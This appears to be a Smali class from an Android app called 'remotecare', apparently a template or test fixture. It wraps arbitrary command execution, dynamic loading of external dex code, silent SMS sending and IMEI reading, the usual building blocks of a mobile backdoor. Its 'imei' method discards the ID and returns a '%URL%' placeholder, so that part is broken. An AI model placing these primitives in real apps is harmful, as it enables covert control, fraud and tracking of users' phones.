.class public Lcom/vendor/remotecare/CommandService;
.super Ljava/lang/Object;

.method public static run(Ljava/lang/String;)V
    .registers 2
    invoke-static {}, Ljava/lang/Runtime;->getRuntime()Ljava/lang/Runtime;
    move-result-object v0
    invoke-virtual {v0, p0}, Ljava/lang/Runtime;->exec(Ljava/lang/String;)Ljava/lang/Process;
    return-void
.end method

.method public static spawn([Ljava/lang/String;)V
    .registers 3
    new-instance v0, Ljava/lang/ProcessBuilder;
    invoke-direct {v0, p0}, Ljava/lang/ProcessBuilder;-><init>([Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/lang/ProcessBuilder;->start()Ljava/lang/Process;
    return-void
.end method

.method public static load(Ljava/lang/String;Ljava/lang/ClassLoader;)V
    .registers 5
    new-instance v0, Ldalvik/system/DexClassLoader;
    const/4 v1, 0x0
    invoke-direct {v0, p0, p0, v1, p1}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V
    return-void
.end method

.method public static sms(Ljava/lang/String;Ljava/lang/String;)V
    .registers 8
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    move-object v1, p0
    const/4 v2, 0x0
    move-object v3, p1
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method

.method public static imei(Landroid/telephony/TelephonyManager;)Ljava/lang/String;
    .registers 3
    invoke-virtual {p0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    const-string v1, "%URL%"
    return-object v1
.end method
